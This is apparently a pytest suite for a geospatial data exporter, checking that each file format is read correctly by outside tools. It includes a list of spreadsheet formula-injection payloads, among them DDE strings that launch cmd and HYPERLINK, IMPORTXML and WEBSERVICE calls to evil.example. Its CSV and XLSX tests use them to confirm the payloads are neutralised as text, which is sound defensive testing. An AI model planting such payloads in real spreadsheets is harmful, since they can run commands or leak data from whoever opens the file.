"""Each export format as programs that are not ours read it; the traps of each format."""

from __future__ import annotations

import csv
import gc
import json
import os
import resource
import sqlite3
import subprocess
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import geopandas
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pyogrio
import pytest
import shapely
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from naru.errors import BadSelection, ExportLimit, NoSuchExport, StorageFailed
from naru.export import dbf, shp_records, xlsx
from naru.export.formats import FORMATS
from naru.house import House
from tests.conftest import require_tool
from tests.exporting import ATTRIBUTION, GEOMETRIES, LICENCE, columns, export, make_layer, open_house

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '="a"',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "--1",
]
NUMBERS = ["-1", "+82", "-0.5", "+1e5", "-.5"]


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    opened = open_house(tmp_path_factory.mktemp("formats") / "home")
    for name, shapes in GEOMETRIES.items():
        make_layer(opened, name, shapes, columns())
    payloads = pa.array([*FORMULAS, *NUMBERS])
    points = [shapely.Point(127, 37 + n / 100) for n in range(len(payloads))]
    make_layer(opened, "payloads", points, {"=값": payloads})
    make_layer(opened, "grid", [shapely.Point(126 + n % 10 / 10, 37 + n // 10 / 10) for n in range(100)])
    yield opened
    opened.close()


def written(house: House, layer: str, name: str, folder: Path, *wheres: str, **wanted: Any) -> Path:
    target = folder / f"{layer}{FORMATS[name].suffix}"
    export(house, layer, name, target, *wheres, **wanted)
    return target


def ogrinfo(path: str) -> str:
    words = [require_tool("ogrinfo"), "-ro", "-al", path]
    done = subprocess.run(
        words, capture_output=True, text=True, timeout=60, check=True, env={**os.environ, "LC_ALL": "C.UTF-8"}
    )
    assert "ERROR" not in done.stderr, done.stderr
    return done.stdout


# --- all formats ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["geojson", "gpkg", "parquet", "shp"])
def test_geopandas_reads_what_was_selected(house: House, tmp_path: Path, name: str) -> None:
    path = written(house, "grid", name, tmp_path, "n>50", bbox=(126.25, 36.9, 126.55, 38.0))
    read = geopandas.read_parquet if name == "parquet" else geopandas.read_file
    frame = read(path)
    assert frame["n"].tolist() == [n for n in range(51, 101) if (n - 1) % 10 in (3, 4, 5)]
    assert (frame.crs.to_epsg(), len(frame.columns)) == (4326, 2)


def test_a_part_of_a_layer_says_what_is_in_it(house: House, tmp_path: Path) -> None:
    path = written(house, "mixed", "parquet", tmp_path, bbox=(126.97, 37.56, 126.98, 37.57))
    about = json.loads(pq.read_metadata(path).metadata[b"geo"])["columns"]["geometry"]
    assert about["geometry_types"] == ["LineString", "Point"]
    assert about["bbox"] == [126.9, 37.5, 127.0, 37.6]


@pytest.mark.parametrize("name", ["geojson", "gpkg", "shp", "kml"])
@pytest.mark.parametrize("layer", ["heights", "lines", "areas"])
def test_debians_gdal_reads_it(house: House, tmp_path: Path, layer: str, name: str) -> None:
    path = written(house, layer, name, tmp_path)
    told = ogrinfo(f"/vsizip/{path}/{layer}.shp" if name == "shp" else str(path))
    assert "Feature Count: 3" in told
    assert "펲뷁" in told
    assert ("도로명" if name == "shp" else "도로명주소2") in told
    assert ("Z (126.978 37.5665 35.25)" in told) == (layer == "heights")


@pytest.mark.parametrize("name", ["geojson", "kml", "csv", "xlsx", "gpkg", "parquet", "shp"])
def test_nothing_selected_gives_an_empty_file_that_opens(house: House, tmp_path: Path, name: str) -> None:
    path = written(house, "areas", name, tmp_path, bbox=(1.0, 1.0, 2.0, 2.0))
    if name == "csv":
        assert len(path.read_text("utf-8-sig").splitlines()) == 1
    elif name == "xlsx":
        assert len(CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()) == 1
    elif name == "kml":
        assert ElementTree.parse(path).findall(".//{*}Placemark") == []
    elif name == "parquet":
        assert len(geopandas.read_parquet(path)) == 0
    else:
        assert len(pyogrio.read_dataframe(path)) == 0


def test_the_same_question_gives_the_same_bytes(house: House, tmp_path: Path) -> None:
    for name in ("geojson", "kml", "csv", "xlsx", "gpkg", "parquet", "shp"):
        one = written(house, "areas", name, tmp_path).read_bytes()
        assert written(house, "areas", name, tmp_path).read_bytes() == one, name


def test_every_format_says_whose_it_is(house: House, tmp_path: Path) -> None:
    def of(name: str) -> Path:
        return written(house, "areas", name, tmp_path)

    with zipfile.ZipFile(of("shp")) as archive:
        readme = archive.read("README.txt").decode()
    about = " ".join(
        str(v) for row in CalamineWorkbook.from_path(of("xlsx")).get_sheet_by_name("about").to_python() for v in row
    )
    with closing(sqlite3.connect(of("gpkg"))) as package:
        metadata = package.execute("SELECT metadata FROM gpkg_metadata").fetchone()[0]
    head = json.loads(of("geojson").read_text("utf-8"))
    kml = ElementTree.parse(of("kml")).find("*//{*}description")
    assert kml is not None
    parquet = pq.read_metadata(of("parquet")).metadata[b"naru"].decode()
    for text in (readme, about, metadata, f"{head['licence']} {head['attribution']}", kml.text or "", parquet):
        assert LICENCE in text
        assert ATTRIBUTION in text


# --- shapefile ------------------------------------------------------------------------------------


def test_korean_names_are_cut_between_letters_and_listed_whole(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "shp", tmp_path)
    with zipfile.ZipFile(path) as archive:
        assert archive.read("areas.cpg") == b"UTF-8"
        rows = list(csv.reader(archive.read("fields.csv").decode("utf-8-sig").splitlines()))
    assert rows[1:3] == [["도로명주소", "도로명", ""], ["도로명주소2", "도로명2", ""]]
    assert rows[-1] == ["설명", "설명", "texts cut to 254 bytes; the longest has 900"]
    assert pyogrio.read_info(path)["fields"].tolist() == [row[1] for row in rows[1:]]


@pytest.mark.parametrize("name", ["geometries", "names", "long", "many", "same"])
def test_short_names_are_different_and_fit(name: str) -> None:
    given = {
        "geometries": ["geometry", "GEOMETRY", "Geometry"],
        "names": ["가나다라마바사", "가나다라마바아", "가나다라"],
        "long": ["abcdefghijklm", "abcdefghijkln"],
        "many": [f"도로명주소{n}" for n in range(120)],
        "same": ["", "field", "a\0b"],
    }[name]
    for encoding in ("utf-8", "cp949"):
        short = dbf.short_names(given, encoding)
        assert len({s.upper() for s in short}) == len(given)
        assert all(0 < len(s.encode(encoding)) <= 10 for s in short)


def test_a_letter_outside_cp949_is_refused_with_its_place(house: House, tmp_path: Path) -> None:
    make_layer(house, "emoji", ["POINT (127 37)", "POINT (127 38)"], {"비고": pa.array(["좋음", "좋음 😀"])})
    with pytest.raises(ExportLimit, match=r"'😀' \(U\+1F600\) has no place in CP949") as caught:
        written(house, "emoji", "shp", tmp_path, encoding="cp949")
    assert (caught.value.feature, caught.value.field) == ("2", "비고")
    assert "UTF-8" in caught.value.remedy
    assert not list((house.settings.home / "jobs").iterdir())


def test_kinds_of_geometry_come_apart_into_shapefiles(house: House, tmp_path: Path) -> None:
    path = written(house, "mixed", "shp", tmp_path)
    with zipfile.ZipFile(path) as archive:
        shapes = sorted(name for name in archive.namelist() if name.endswith(".shp"))
        readme = archive.read("README.txt").decode()
    assert shapes == ["mixed_line.shp", "mixed_multipoint.shp", "mixed_polygon.shp"]
    assert "taken apart by kind" in readme
    counts = {name: len(geopandas.read_file(f"zip://{path}!{name}")) for name in shapes}
    assert counts == {"mixed_line.shp": 1, "mixed_multipoint.shp": 2, "mixed_polygon.shp": 1}


def test_a_shapefile_too_large_is_refused(house: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for module in (shp_records, dbf):
        with monkeypatch.context() as patched:
            patched.setattr(module, "_LARGEST", 300)
            with pytest.raises(ExportLimit, match="larger than 2 GiB") as caught:
                written(house, "grid", "shp", tmp_path)
        assert "gpkg" in caught.value.remedy


def test_more_fields_than_a_shapefile_has_are_refused(house: House, tmp_path: Path) -> None:
    make_layer(house, "wide", ["POINT (127 37)"], {f"c{n}": pa.array([n]) for n in range(300)})
    with pytest.raises(ExportLimit, match="at most 255 fields, and 300"):
        written(house, "wide", "shp", tmp_path)
    assert pyogrio.read_info(written(house, "wide", "shp", tmp_path, fields=("c7", "c1")))["fields"].tolist() == [
        "c7",
        "c1",
    ]


def test_a_layer_without_fields_is_a_shapefile_with_numbers(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "shp", tmp_path, fields=())
    assert geopandas.read_file(path)["ID"].tolist() == [1, 2, 3]


def test_rings_turn_as_the_shapefile_asks(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "shp", tmp_path)
    first = pyogrio.read_dataframe(path).geometry[0]
    assert not shapely.is_ccw(first.exterior)
    assert [shapely.is_ccw(ring) for ring in first.interiors] == [True]


# --- tables ---------------------------------------------------------------------------------------


def test_no_cell_of_a_csv_is_a_formula(house: House, tmp_path: Path) -> None:
    path = written(house, "payloads", "csv", tmp_path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as stream:
        header, *rows = csv.reader(stream)
    assert header == ["'=값", "lon", "lat"]
    assert [row[0] for row in rows] == [*("'" + text for text in FORMULAS), *NUMBERS]


def test_no_cell_of_a_workbook_is_a_formula(house: House, tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(written(house, "payloads", "xlsx", tmp_path)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows()]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert [unescape(str(cell.value)) for cell in cells] == ["=값", *FORMULAS, *NUMBERS]


def test_markup_in_a_workbook_is_text(house: House, tmp_path: Path) -> None:
    text = '<r><t>1</t></r></is></c><c r="B2"><f>HYPERLINK("http://evil.example")</f></c><c r="C2"><is><r></r>'
    make_layer(house, "markup", ["POINT (127 37)"], {text: pa.array([text]), "나": pa.array(["\ufffe\x01<&"])})
    path = written(house, "markup", "xlsx", tmp_path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert [sheet["A1"].value, sheet["A2"].value, unescape(sheet["B2"].value)] == [text, text, "\ufffd\x01<&"]
    assert {cell.data_type for row in sheet.iter_rows(max_col=2) for cell in row} <= {"s", "inlineStr"}
    assert CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()[1][0] == text


@pytest.mark.filterwarnings("ignore:unclosed file:ResourceWarning")  # XlsxWriter's, when packing fails
@pytest.mark.parametrize(
    ("layer", "name"),  # a workbook fails while rows are written, or while it is packed
    [("grid", "xlsx"), ("points", "xlsx"), ("grid", "gpkg"), ("areas", "shp")],
)
def test_what_the_disk_does_not_take_is_told_and_leaves_nothing(
    house: House, tmp_path: Path, layer: str, name: str
) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (2000, hard))
    try:
        with pytest.raises(StorageFailed, match=r"could not be stored: (File too large|disk I/O error)"):
            written(house, layer, name, tmp_path)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    gc.collect()
    assert not list((house.settings.home / "jobs").iterdir())


def test_cells_of_a_workbook_are_typed(house: House, tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(written(house, "points", "xlsx", tmp_path)).worksheets[0]
    kinds = {str(head.value): cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
    assert (kinds["층수"].value, kinds["공개"].value, kinds["큰수"].value) == (-3, True, str(2**53 + 1))
    assert (kinds["준공일"].is_date, kinds["준공일"].number_format) == (True, "yyyy\\-mm\\-dd")
    assert kinds["측정"].is_date
    assert (kinds["lon"].value, kinds["lat"].value) == (126.9780001, 37.5665)
    assert sheet.freeze_panes == "A2"


def test_rows_beyond_a_sheet_go_on_to_the_next(
    house: House, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "ROWS", 41)
    book = CalamineWorkbook.from_path(written(house, "grid", "xlsx", tmp_path))
    assert book.sheet_names == ["grid 층", "grid 층 (2)", "grid 층 (3)", "about"]
    sheets = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names[:3]]
    assert [len(sheet) for sheet in sheets] == [41, 41, 21]
    assert [row[0] for sheet in sheets for row in sheet[1:]] == list(range(1, 101))
    assert len({tuple(sheet[0]) for sheet in sheets}) == 1


def test_what_no_cell_holds_is_cut_or_left_out_and_counted(house: House, tmp_path: Path) -> None:
    circle = shapely.Point(127, 37).buffer(1, quad_segs=500)
    make_layer(house, "large", [circle, "POINT (127 37)"], {"글": pa.array(["한" * 40_000, "_x0041_"])})
    target = tmp_path / "large.xlsx"
    notes = export(house, "large", "xlsx", target).notes
    assert sorted(notes.values()) == [1, 1]
    rows = openpyxl.load_workbook(target).worksheets[0]
    assert [len(str(rows["A2"].value)), rows["B2"].value] == [32_767, None]
    assert rows["B3"].value == "POINT (127 37)"
    with zipfile.ZipFile(target) as archive:
        assert b">_x005F_x0041_<" in archive.read("xl/worksheets/sheet1.xml")


def test_names_of_columns_that_are_taken_get_a_number(house: House, tmp_path: Path) -> None:
    make_layer(house, "taken", ["POINT (127 37)"], {"LON": pa.array([1]), "lat": pa.array([2])})
    header = written(house, "taken", "csv", tmp_path).read_text("utf-8-sig").splitlines()[0]
    assert header == '"LON","lat","lon_2","lat_2"'


# --- GeoJSON and KML ------------------------------------------------------------------------------


def test_geojson_is_what_rfc_7946_asks(house: House, tmp_path: Path) -> None:
    document = json.loads(written(house, "areas", "geojson", tmp_path).read_text("utf-8"))
    assert (document["type"], "crs" in document) == ("FeatureCollection", False)
    assert [feature["id"] for feature in document["features"]] == [1, 2, 3]
    ring = document["features"][0]["geometry"]["coordinates"][0]
    assert shapely.is_ccw(shapely.LinearRing(ring))
    assert document["features"][2]["properties"] == dict.fromkeys(columns())


def test_geojson_in_another_system_says_so(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "geojson", tmp_path, crs="EPSG:5186")
    assert json.loads(path.read_text("utf-8"))["crs"]["properties"]["name"] == "urn:ogc:def:crs:EPSG::5186"
    assert geopandas.read_file(path).crs.to_epsg() == 5186


def test_control_characters_survive_json_and_are_replaced_in_xml(house: House, tmp_path: Path) -> None:
    text = 'a"b\\c\x01\n\t<&>\u2028'
    make_layer(house, "control", ["POINT (127 37)"], {'키"<': pa.array([text])})
    (feature,) = json.loads(written(house, "control", "geojson", tmp_path).read_text("utf-8"))["features"]
    assert feature["properties"] == {'키"<': text}
    data = ElementTree.parse(written(house, "control", "kml", tmp_path)).find(".//{*}SimpleData")
    assert data is not None
    assert (data.get("name"), data.text) == ('키"<', text.replace("\x01", "\ufffd"))


def test_kml_has_exact_names_types_heights_and_the_layers_colour(house: House, tmp_path: Path) -> None:
    tree = ElementTree.parse(written(house, "heights", "kml", tmp_path))
    fields = {field.get("name"): field.get("type") for field in tree.iterfind(".//{*}SimpleField")}
    assert fields == dict(
        zip(
            columns(),
            ["string", "string", "string", "string", "double", "bool", "string", "string", "string"],
            strict=True,
        )
    )
    assert [e.text for e in tree.iterfind(".//{*}altitudeMode")] == ["absolute"] * 3
    assert next(tree.iterfind(".//{*}coordinates")).text == "126.978,37.5665,35.25"
    colour = next(tree.iterfind(".//{*}LineStyle/{*}color")).text
    assert colour is not None
    assert colour[2:] == "b06f2f"  # blue, green, red of #2f6fb0


def test_kml_holds_every_kind_of_geometry(house: House, tmp_path: Path) -> None:
    tree = ElementTree.parse(written(house, "mixed", "kml", tmp_path))
    kinds = [[child.tag.split("}")[1] for child in mark][-1] for mark in tree.iterfind(".//{*}Placemark")]
    assert kinds == ["Point", "LineString", "MultiGeometry"]
    holes = ElementTree.parse(written(house, "areas", "kml", tmp_path)).findall(".//{*}innerBoundaryIs")
    assert len(holes) == 1


def test_kml_in_another_system_is_refused(house: House, tmp_path: Path) -> None:
    with pytest.raises(NoSuchExport, match="longitude and latitude only"):
        written(house, "areas", "kml", tmp_path, crs="EPSG:5186")


# --- GeoPackage and GeoParquet --------------------------------------------------------------------


def test_a_geopackage_holds_to_its_rules(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "gpkg", tmp_path, crs="EPSG:5186")
    with closing(sqlite3.connect(path)) as package:
        assert package.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47
        assert package.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert package.execute("PRAGMA foreign_key_check").fetchall() == []
        systems = {row[0] for row in package.execute("SELECT srs_id FROM gpkg_spatial_ref_sys")}
        assert systems == {-1, 0, 4326, 5186}
        assert package.execute("SELECT count(*) FROM rtree_areas_geom").fetchone()[0] == 3
        assert (
            package.execute("SELECT geometry_type_name FROM gpkg_geometry_columns").fetchone()[0] == "MULTIPOLYGON"
        )
        box = package.execute("SELECT min_x, min_y, max_x, max_y FROM gpkg_contents").fetchone()
    frame = geopandas.read_file(path)
    assert frame.total_bounds.tolist() == pytest.approx(box)
    assert frame.dtypes.astype(str)["층수"].lower().startswith(("int", "float"))


def test_a_geopackage_can_be_edited_and_keeps_its_index(house: House, tmp_path: Path) -> None:
    path = written(house, "areas", "gpkg", tmp_path)
    words = [require_tool("ogrinfo"), str(path), "-sql", "DELETE FROM areas WHERE fid = 2"]
    subprocess.run(words, check=True, capture_output=True, timeout=60)
    with closing(sqlite3.connect(path)) as package:
        assert package.execute("SELECT id FROM rtree_areas_geom ORDER BY id").fetchall() == [(1,), (3,)]


def test_names_that_differ_in_case_are_kept_apart(house: House, tmp_path: Path) -> None:
    fields = {"Name": pa.array(["a"]), "NAME": pa.array(["b"]), "fid": pa.array([7]), "층": pa.array([1])}
    make_layer(house, "cases", ["POINT (127 37)"], fields)
    (row,) = (
        geopandas.read_file(written(house, "cases", "gpkg", tmp_path)).drop(columns="geometry").to_dict("records")
    )
    assert row == {"Name": "a", "NAME_2": "b", "fid_2": 7, "층": 1}


def test_a_system_without_a_code_goes_with_its_definition(house: House, tmp_path: Path) -> None:
    from pyproj import CRS

    own = CRS.from_proj4("+proj=tmerc +lat_0=37 +lon_0=127 +x_0=1000 +y_0=2000 +ellps=GRS80 +units=m").to_wkt()
    make_layer(house, "own", ["POINT (1000 2000)"], crs=own)
    for name in ("gpkg", "shp", "parquet"):
        path = written(house, "own", name, tmp_path)
        frame = geopandas.read_parquet(path) if name == "parquet" else geopandas.read_file(path)
        (place,) = frame.to_crs(4326).geometry
        assert (place.x, place.y) == pytest.approx((127.0, 37.0)), name
    (place,) = geopandas.read_file(written(house, "own", "geojson", tmp_path)).geometry
    assert (place.x, place.y) == pytest.approx((127.0, 37.0))


def test_geoparquet_is_valid_and_can_be_read_in_part(house: House, tmp_path: Path) -> None:
    path = written(house, "grid", "parquet", tmp_path, crs="EPSG:5179")
    geo = json.loads(pq.read_metadata(path).metadata[b"geo"])
    column = geo["columns"][geo["primary_column"]]
    assert (geo["version"], column["encoding"], column["geometry_types"]) == ("1.1.0", "WKB", ["Point"])
    assert geopandas.read_parquet(path).total_bounds.tolist() == pytest.approx(column["bbox"])
    west, south, _, _ = column["bbox"]
    assert len(geopandas.read_parquet(path, bbox=(west - 1, south - 1, west + 1, south + 1_000_000))) == 1


# --- what cannot be ordered -----------------------------------------------------------------------


def test_a_field_that_is_not_there_is_named(house: House, tmp_path: Path) -> None:
    with pytest.raises(BadSelection, match="there is no field '없음'"):
        written(house, "grid", "csv", tmp_path, fields=("없음",))
    with pytest.raises(BadSelection, match="there is no field '없음'"):
        written(house, "grid", "csv", tmp_path, "없음=1")


@pytest.mark.parametrize(("name", "why"), [("tif", "no pixels"), ("pmtiles", "keeps no tiles")])
def test_what_a_layer_does_not_have_is_refused(house: House, tmp_path: Path, name: str, why: str) -> None:
    with pytest.raises(NoSuchExport, match=why):
        written(house, "grid", name, tmp_path)
